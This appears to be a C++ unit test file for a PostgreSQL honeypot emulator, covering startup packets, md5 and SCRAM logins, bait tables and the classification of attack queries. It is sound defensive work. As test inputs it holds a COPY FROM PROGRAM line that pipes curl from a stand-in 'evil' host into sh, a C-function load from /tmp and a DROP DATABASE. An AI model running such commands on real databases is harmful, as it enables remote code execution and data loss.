// The postgres emulator: its codec (startup packets, md5 and SCRAM-SHA-256 against the RFC
// 7677 vector), its SQL (psql's \l, bait tables, exploitation attempts) and dialogues over
// an in-memory session — an md5 login refused with FATAL 28P01 and captured, a SCRAM login
// let in by the persona's list (the server's signature checked), SSL and GSSENC requests,
// an unsupported protocol, packets split at every byte.
#include <gtest/gtest.h>

#include "core/base64.hpp"
#include "honeypot/services/postgres/postgres_protocol.hpp"
#include "honeypot/services/postgres/postgres_sql.hpp"
#include "support/dialogue.hpp"

namespace decnet::honeypot {
namespace {

using namespace std::string_literals;
using decnet::testing::Dialogue;
using decnet::testing::DialogueOptions;
using decnet::testing::event_types;
using decnet::testing::field;
using decnet::testing::first_event;
namespace pg = postgres;

std::string startup_packet(const std::vector<std::pair<std::string, std::string>>& params,
                           std::uint32_t code = pg::kProtocol3) {
    std::string body = pg::int32(code);
    for (const auto& [k, v] : params) body += k + '\0' + v + '\0';
    if (code == pg::kProtocol3) body += '\0';
    return pg::int32(static_cast<std::uint32_t>(body.size() + 4)) + body;
}

std::string frontend(char type, std::string_view body) {
    return std::string(1, type) + pg::int32(static_cast<std::uint32_t>(body.size() + 4)) +
           std::string(body);
}

// One backend message: type and body.
std::pair<char, std::string> read_message(Dialogue& d) {
    const auto head = d.read_exact(5);
    if (head.size() != 5) return {0, {}};
    return {head[0], d.read_exact(pg::read32(head.substr(1)) - 4)};
}

TEST(PostgresCodec, ParsesStartupPacketsAndTheirCodes) {
    const auto packet = startup_packet({{"user", "postgres"}, {"database", "shop"}});
    auto p = pg::parse_startup(std::string_view(packet).substr(4));
    EXPECT_EQ(p.kind, pg::StartupPacket::startup);
    EXPECT_EQ(p.get("user"), "postgres");
    EXPECT_EQ(p.get("database"), "shop");
    EXPECT_EQ(pg::parse_startup(pg::int32(pg::kSslRequest)).kind, pg::StartupPacket::ssl);
    EXPECT_EQ(pg::parse_startup(pg::int32(pg::kGssEncRequest)).kind, pg::StartupPacket::gssenc);
    EXPECT_EQ(pg::parse_startup(pg::int32(0xff534d42)).kind, pg::StartupPacket::unsupported);
    EXPECT_EQ(pg::parse_startup(pg::int32(pg::kProtocol3) + "user\0pos"s).kind,
              pg::StartupPacket::invalid);
    for (std::size_t n = 0; n < packet.size(); ++n)
        (void)pg::parse_startup(std::string_view(packet).substr(4, n));
}

TEST(PostgresCodec, Md5AndScramMatchTheServer) {
    EXPECT_EQ(pg::md5_response("hunter2", "postgres", "\x01\x02\x03\x04"),
              "md5c73cff48cd454994b0c263a04cdfc859");
    EXPECT_EQ(pg::md5_hash("postgres", "\x01\x02\x03\x04", "md5c73cff48cd454994b0c263a04cdfc859"),
              "$postgres$postgres*01020304*c73cff48cd454994b0c263a04cdfc859");
    // RFC 7677 §3.
    const auto first = pg::parse_client_first("n,,n=user,r=rOprNGfwEbeRWgbNEkqO");
    ASSERT_TRUE(first);
    EXPECT_EQ(first->nonce, "rOprNGfwEbeRWgbNEkqO");
    const std::string server_first =
        "r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0,s=W22ZaJ0SNY7soEsUEjb6gQ==,i=4096";
    const auto final_message = pg::parse_client_final(
        "c=biws,r=rOprNGfwEbeRWgbNEkqO%hvYDpWUa2RaTCAfuxFIlj)hNlF$k0,p=dHzbZapWIk4jUhN+Ute9ytag9zjf"
        "MHgsqmmiz7AndVQ=");
    ASSERT_TRUE(final_message);
    const auto salt = *base64_decode("W22ZaJ0SNY7soEsUEjb6gQ==");
    const auto auth = first->bare + "," + server_first + "," + final_message->without_proof;
    EXPECT_EQ(pg::scram_client_proof("pencil", salt, 4096, auth), final_message->proof);
    EXPECT_EQ(base64_encode(pg::scram_server_signature("pencil", salt, 4096, auth)),
              "6rriTRBi23WpRR/wtup+mMhUZUn/dB5nLTJRsjl95G4=");
    EXPECT_FALSE(pg::parse_client_final("c=biws,r=abc"));
    EXPECT_FALSE(pg::parse_sasl_initial("SCRAM-SHA-256\0\0\0\xff"s + "n,,"));
}

pg::Server bait_server() {
    DbFacts facts;
    facts.app = "erp";
    facts.people = {"jsmith"};
    return pg::Server{"15.10 (Debian 15.10-0+deb12u1)", "db01", make_db_bait(facts)};
}

TEST(PostgresSql, AnswersPsqlAndClassifiesAttempts) {
    const auto server = bait_server();
    pg::Connection c{"postgres", "erp_prod", "203.0.113.7"};
    auto r = pg::run_simple_query(
        server, c, "SELECT d.datname as \"Name\", x as \"Owner\" FROM pg_catalog.pg_database d");
    ASSERT_EQ(r.size(), 1u);
    ASSERT_EQ(r[0].columns.size(), 2u);
    EXPECT_EQ(r[0].columns[0].name, "Name");
    EXPECT_EQ(r[0].values.size(), 5u);  // erp_prod, postgres, shop, template0, template1
    r = pg::run_simple_query(server, c, "select username from public.users limit 1; select 1");
    ASSERT_EQ(r.size(), 2u);
    EXPECT_EQ(*r[0].values[0][0], "jsmith");
    EXPECT_EQ(r[0].tag, "SELECT 1");
    r = pg::run_simple_query(server, c, "select * from nope; select 1");
    ASSERT_EQ(r.size(), 1u);  // an error stops the rest
    EXPECT_EQ(r[0].code, "42P01");
    EXPECT_EQ(r[0].message, "relation \"nope\" does not exist");
    r = pg::run_simple_query(server, c,
                             "CREATE TABLE cmd(o text); COPY cmd FROM PROGRAM 'id'; "
                             "CREATE FUNCTION sys(cstring) RETURNS int AS '/tmp/x.so', 'sys' "
                             "LANGUAGE C STRICT");
    ASSERT_EQ(r.size(), 3u);
    EXPECT_EQ(r[0].capture, "write");
    EXPECT_EQ(r[1].capture, "exploit");
    EXPECT_EQ(r[2].capture, "exploit");
    EXPECT_EQ(r[2].code, "58P01");
    EXPECT_EQ(pg::run_simple_query(server, c, "DROP DATABASE erp_prod")[0].capture, "destructive");
    EXPECT_EQ(pg::run_simple_query(server, c, "  ")[0].kind, pg::Result::empty);
    EXPECT_EQ(pg::run_simple_query(server, c, "hello")[0].message,
              "syntax error at or near \"hello\"");
}

TEST(PostgresDialogue, Md5LoginIsRefusedLikeTheServerAndCaptured) {
    Dialogue d("postgres", DialogueOptions{.persona = {{"auth", "md5"}}, .distro = "debian"});
    ASSERT_TRUE(d.send(startup_packet(
        {{"user", "postgres"}, {"database", "shop"}, {"application_name", "psql"}})));
    const auto [type, body] = read_message(d);
    ASSERT_EQ(type, 'R');
    ASSERT_EQ(body.size(), 8u);
    EXPECT_EQ(pg::read32(body), 5u);
    const auto salt = body.substr(4);
    const auto response = pg::md5_response("hunter2", "postgres", salt);
    ASSERT_TRUE(d.send(frontend('p', response + '\0')));
    const auto [etype, ebody] = read_message(d);
    EXPECT_EQ(etype, 'E');
    EXPECT_EQ(ebody,
              "SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed for user \"postgres\"\0"
              "Fauth.c\0L326\0Rauth_failed\0\0"s);
    d.expect_closed();
    const auto events = d.finish();
    EXPECT_EQ(event_types(events),
              (std::vector<std::string>{"connect", "startup_message", "auth", "disconnect"}));
    EXPECT_EQ(field(events[1], "application_name"), "psql");
    EXPECT_EQ(field(events[2], "password"), pg::md5_hash("postgres", salt, response));
    EXPECT_EQ(field(events[2], "status"), "failed");
}

TEST(PostgresDialogue, ScramLoginSplitAtEveryByteIsLetInByTheList) {
    Dialogue d(
        "postgres",
        DialogueOptions{.persona = {{"accept", "list"}, {"logins", "app:Pa55word"}, {"tls", "no"}},
                        .distro = "debian"});
    const auto send_bytes = [&](const std::string& bytes) {
        for (const char c : bytes) ASSERT_TRUE(d.send(std::string(1, c)));
    };
    // SSLRequest with TLS off, GSSENCRequest: both 'N', then the startup packet.
    send_bytes(pg::int32(8) + pg::int32(pg::kSslRequest));
    EXPECT_EQ(d.read_exact(1), "N");
    send_bytes(pg::int32(8) + pg::int32(pg::kGssEncRequest));
    EXPECT_EQ(d.read_exact(1), "N");
    send_bytes(startup_packet({{"user", "app"}, {"database", "postgres"}}));
    auto [type, body] = read_message(d);
    EXPECT_EQ(body, pg::int32(10) + "SCRAM-SHA-256\0\0"s);
    const std::string client_first = "n,,n=,r=abcdefghijklmnopqrstuvwx";
    send_bytes(frontend('p', "SCRAM-SHA-256\0"s + pg::int32(client_first.size()) + client_first));
    std::tie(type, body) = read_message(d);
    ASSERT_EQ(pg::read32(body), 11u);
    const auto server_first = body.substr(4);
    ASSERT_TRUE(server_first.starts_with("r=abcdefghijklmnopqrstuvwx"));
    const auto nonce = server_first.substr(2, server_first.find(',') - 2);
    const auto s_at = server_first.find(",s=") + 3;
    const auto salt = *base64_decode(server_first.substr(s_at, server_first.find(",i=") - s_at));
    const auto without_proof = "c=biws,r=" + nonce;
    const auto auth = client_first.substr(3) + "," + server_first + "," + without_proof;
    send_bytes(frontend(
        'p', without_proof +
                 ",p=" + base64_encode(pg::scram_client_proof("Pa55word", salt, 4096, auth))));
    std::tie(type, body) = read_message(d);
    EXPECT_EQ(body, pg::int32(12) + "v=" +
                        base64_encode(pg::scram_server_signature("Pa55word", salt, 4096, auth)));
    std::tie(type, body) = read_message(d);
    EXPECT_EQ(body, pg::int32(0));  // AuthenticationOk
    bool version_seen = false;
    for (int i = 0; i < 20; ++i) {
        std::tie(type, body) = read_message(d);
        if (type == 'S' && body ==
                               "server_version\0"
                               "15.10 (Debian 15.10-0+deb12u1)\0"s)
            version_seen = true;
        if (type == 'Z') break;
    }
    EXPECT_TRUE(version_seen);
    send_bytes(frontend('Q', "COPY x FROM PROGRAM 'curl http://evil/x | sh'\0"s));
    std::tie(type, body) = read_message(d);
    EXPECT_EQ(body, "COPY 0\0"s);
    EXPECT_EQ(read_message(d).first, 'Z');
    ASSERT_TRUE(d.send(frontend('X', "")));
    d.expect_closed();
    const auto events = d.finish();
    EXPECT_EQ(field(first_event(events, "auth"), "status"), "success");
    EXPECT_EQ(field(first_event(events, "auth"), "credential_type"), "scram-sha-256");
    EXPECT_EQ(field(first_event(events, "exploit"), "query"),
              "COPY x FROM PROGRAM 'curl http://evil/x | sh'");
}

TEST(PostgresDialogue, UnsupportedProtocolAndLyingLengthsEndTheSession) {
    {
        Dialogue d("postgres", DialogueOptions{.distro = "debian"});
        // nmap's SMB negotiation probe read as a startup packet.
        ASSERT_TRUE(d.send(pg::int32(0xa4) + "\xffSMBr" + std::string(155, '\0')));
        const auto [type, body] = read_message(d);
        EXPECT_EQ(type, 'E');
        EXPECT_EQ(body,
                  "SFATAL\0VFATAL\0C0A000\0Munsupported frontend protocol 65363.19778: server "
                  "supports 3.0 to 3.0\0Fpostmaster.c\0L2194\0RProcessStartupPacket\0\0"s);
        d.expect_closed();
    }
    {
        Dialogue d("postgres");
        ASSERT_TRUE(d.send(pg::int32(100000000)));
        d.expect_closed();
        EXPECT_EQ(first_event(d.finish(), "protocol_error").event_type, "protocol_error");
    }
}

}  // namespace
}  // namespace decnet::honeypot

namespace decnet::honeypot {
namespace {

TEST(PostgresDialogue, AcceptAnyAsksForMd5AndLetsEveryPasswordIn) {
    Dialogue d("postgres", DialogueOptions{.persona = {{"accept", "any"}}, .distro = "debian"});
    ASSERT_TRUE(d.send(startup_packet({{"user", "admin"}, {"database", "postgres"}})));
    auto [type, body] = read_message(d);
    ASSERT_EQ(pg::read32(body), 5u);  // md5, though 15 defaults to SCRAM
    ASSERT_TRUE(
        d.send(frontend('p', pg::md5_response("anything", "admin", body.substr(4)) + '\0')));
    std::tie(type, body) = read_message(d);
    EXPECT_EQ(body, pg::int32(0));
    for (int i = 0; i < 20 && type != 'Z'; ++i) std::tie(type, body) = read_message(d);
    EXPECT_EQ(type, 'Z');
    const auto events = d.finish();
    EXPECT_EQ(field(first_event(events, "auth"), "status"), "success");
}

TEST(PostgresDialogue, UnknownDatabaseIsRefusedAfterThePassword) {
    Dialogue d("postgres", DialogueOptions{.persona = {{"accept", "any"}}, .distro = "debian"});
    ASSERT_TRUE(d.send(startup_packet({{"user", "admin"}})));  // database: the user's name
    auto [type, body] = read_message(d);
    ASSERT_TRUE(d.send(frontend('p', pg::md5_response("x", "admin", body.substr(4)) + '\0')));
    std::tie(type, body) = read_message(d);
    EXPECT_EQ(body, pg::int32(0));
    std::tie(type, body) = read_message(d);
    EXPECT_EQ(type, 'E');
    EXPECT_NE(body.find("C3D000\0Mdatabase \"admin\" does not exist\0"s), std::string::npos);
    d.expect_closed();
}

}  // namespace
}  // namespace decnet::honeypot
